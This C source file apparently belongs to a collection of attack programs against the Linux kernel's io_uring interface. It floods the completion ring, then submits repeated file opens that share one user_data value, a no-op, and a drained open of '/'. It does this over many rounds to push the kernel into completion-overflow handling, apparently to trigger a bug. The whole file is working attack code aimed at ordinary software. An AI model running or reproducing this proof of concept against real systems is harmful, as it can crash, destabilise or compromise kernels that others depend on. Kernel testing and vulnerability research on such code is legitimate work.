// SPDX-License-Identifier: Apache-2.0
/*
 * Opens files through io_uring by requests that all have the same user_data,
 * and whose results find no room in the completion ring:
 *
 *	io_uring_crowd ROUNDS OPENS PATH
 *
 * Each round makes OPENS opens of PATH; then, with the same user_data, a
 * request that does nothing, and an open of "/" when all others are done.
 * Prints a dot when they are requested.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>

#include "uring.c" /* attacks are compiled from one file */

static struct uring ring;

static void must(int ret, const char *what)
{
	if (ret >= 0)
		return;
	fprintf(stderr, "%s: %s\n", what, strerror(-ret));
	exit(1);
}

/* Descriptors after the ring's are those of the opens, then. */
static void make_room_for_descriptors(void)
{
	struct rlimit limit;

	for (int fd = 3; fd < 64; fd++)
		close(fd);
	getrlimit(RLIMIT_NOFILE, &limit);
	limit.rlim_cur = limit.rlim_max;
	setrlimit(RLIMIT_NOFILE, &limit);
}

static void fill_completions(void)
{
	unsigned int entries = ring.params.sq_entries;

	memset(ring.requests, 0, entries * sizeof(*ring.requests));
	for (unsigned int i = 0; i < ring.params.cq_entries; i += entries)
		must(uring_submit(&ring, entries, 0), "no operations");
}

static void fill_open(struct io_uring_sqe *request, const char *path)
{
	*request = (struct io_uring_sqe){
		.opcode = IORING_OP_OPENAT,
		.flags = IOSQE_ASYNC,
		.fd = AT_FDCWD,
		.addr = (uintptr_t)path,
		.user_data = (unsigned long)getpid(),
	};
}

static void submit_opens(unsigned int opens, const char *path)
{
	for (unsigned int i = 0; i < opens; i++)
		fill_open(&ring.requests[i], path);
	ring.requests[opens] =
		(struct io_uring_sqe){.user_data = (unsigned long)getpid()};
	fill_open(&ring.requests[opens + 1], "/");
	ring.requests[opens + 1].flags |= IOSQE_IO_DRAIN;
	must(uring_submit(&ring, opens + 2, 0), "opens");
}

static bool is_root(int fd)
{
	char path[PATH_MAX] = "", link[32];

	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	return readlink(link, path, sizeof(path) - 1) > 0 &&
	       strcmp(path, "/") == 0;
}

static void await_root(int first, int last)
{
	for (;;) {
		for (int fd = first; fd <= last; fd++)
			if (is_root(fd))
				return;
		usleep(100);
	}
}

static void take_results(unsigned int count)
{
	struct io_uring_cqe result;

	while (count) {
		if (!uring_take(&ring, &result)) {
			must(uring_submit(&ring, 0, 1), "results");
			continue;
		}
		if (result.user_data != (unsigned long)getpid())
			continue;
		if (result.res > ring.fd)
			close(result.res);
		count--;
	}
}

int main(int argc, char **argv)
{
	unsigned int rounds = argc == 4 ? (unsigned int)atoi(argv[1]) : 0;
	unsigned int opens = argc == 4 ? (unsigned int)atoi(argv[2]) : 0;

	if (!rounds || !opens) {
		fprintf(stderr, "usage: io_uring_crowd ROUNDS OPENS PATH\n");
		return 2;
	}
	make_room_for_descriptors();
	must(uring_open(&ring, opens + 2, 0), "io_uring_setup");
	while (rounds--) {
		fill_completions();
		submit_opens(opens, argv[3]);
		putchar('.');
		fflush(stdout);
		await_root(ring.fd + 1, ring.fd + 1 + (int)opens);
		take_results(opens + 2);
	}
	return 0;
}
